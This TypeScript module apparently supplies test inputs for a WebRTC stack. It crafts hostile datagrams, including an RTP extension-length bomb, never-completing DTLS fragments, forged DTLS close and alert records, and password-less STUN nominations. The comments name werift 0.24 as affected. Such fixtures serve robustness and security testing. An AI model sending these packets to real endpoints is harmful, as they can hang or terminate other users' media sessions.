import { randomBytes } from 'node:crypto';

/** Datagrams that strangers, or liars, send. */

/** An RTP header that claims `words` of extensions, in a packet that has few: werift 0.24 would be busy with it for minutes. */
export function extensionBomb(words = 0xffff): Buffer {
  const packet = Buffer.alloc(64, 0x11);
  packet.set([0x90, 96, 0, 1, 0, 0, 0, 1, 0, 0, 0, 9, 0xbe, 0xde, words >> 8, words & 255]);
  return packet;
}

/** One DTLS record, RFC 6347 section 4.1. */
function dtlsRecord(type: number, epoch: number, body: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.set([type, 0xfe, 0xfd]);
  header.writeUInt16BE(epoch, 3);
  header.writeUIntBE(1000, 5, 6);
  header.writeUInt16BE(body.length, 11);
  return Buffer.concat([header, body]);
}

/** A ClientHello, cut into fragments that never become whole if `fragment`. RFC 6347 section 4.2. */
export function clientHello(fragment = false): Buffer {
  const body = Buffer.concat([Buffer.of(0xfe, 0xfd), randomBytes(32), Buffer.of(0, 0, 0, 2, 0xc0, 0x2b, 1, 0)]);
  const header = Buffer.alloc(12);
  header[0] = 1;
  header.writeUIntBE(body.length + (fragment ? 60_000 : 0), 1, 3);
  header.writeUIntBE(body.length, 9, 3);
  return dtlsRecord(22, 0, Buffer.concat([header, body]));
}

/** Forged goodbyes and oddities that werift 0.24 takes for one. */
export function goodbyes(): Buffer[] {
  return [
    dtlsRecord(21, 0, Buffer.of(1, 0)),
    dtlsRecord(21, 0, Buffer.of(2, 40)),
    dtlsRecord(21, 1, Buffer.alloc(26)),
    dtlsRecord(21, 1, Buffer.concat([Buffer.of(0, 0), randomBytes(24)])),
    dtlsRecord(24, 1, randomBytes(20)),
    dtlsRecord(63, 0, Buffer.of(0)),
    dtlsRecord(20, 0, Buffer.of(1)),
    dtlsRecord(22, 1, randomBytes(40)),
    dtlsRecord(23, 1, randomBytes(40)),
    Buffer.concat([dtlsRecord(20, 0, Buffer.of(1)), dtlsRecord(21, 0, Buffer.of(1, 0))]),
  ];
}

/** A connectivity check that nominates, by someone who has seen the user names but not the password. */
export function bindingRequest(ufrag: string): Buffer {
  const name = Buffer.from(`${ufrag}:evil`);
  const padded = Buffer.concat([name, Buffer.alloc((4 - (name.length % 4)) % 4)]);
  const attributes = Buffer.concat([
    Buffer.of(0, 6, 0, name.length),
    padded,
    Buffer.of(0, 0x25, 0, 0),
    Buffer.of(0, 0x24, 0, 4, 0x7f, 0xff, 0xff, 0xff),
    Buffer.of(0x80, 0x2a, 0, 8),
    randomBytes(8),
    Buffer.of(0, 8, 0, 20),
    randomBytes(20),
  ]);
  return Buffer.concat([stunHeader(1, attributes.length), attributes]);
}

/** A response to nobody's question. */
export const bindingResponse = (): Buffer => Buffer.concat([stunHeader(0x0101, 12), Buffer.of(0, 0x20, 0, 8, 0, 1, 1, 1, 1, 1, 1, 1)]);

function stunHeader(type: number, length: number): Buffer {
  const header = Buffer.alloc(20);
  header.writeUInt16BE(type, 0);
  header.writeUInt16BE(length, 2);
  header.writeUInt32BE(0x2112a442, 4);
  randomBytes(12).copy(header, 8);
  return header;
}

/** RTP or RTCP that nobody sealed. */
export const strayRtp = (): Buffer => Buffer.concat([Buffer.of(0x80, 96), randomBytes(60)]);
export const strayRtcp = (): Buffer => Buffer.concat([Buffer.of(0x80, 200, 0, 6), randomBytes(40)]);
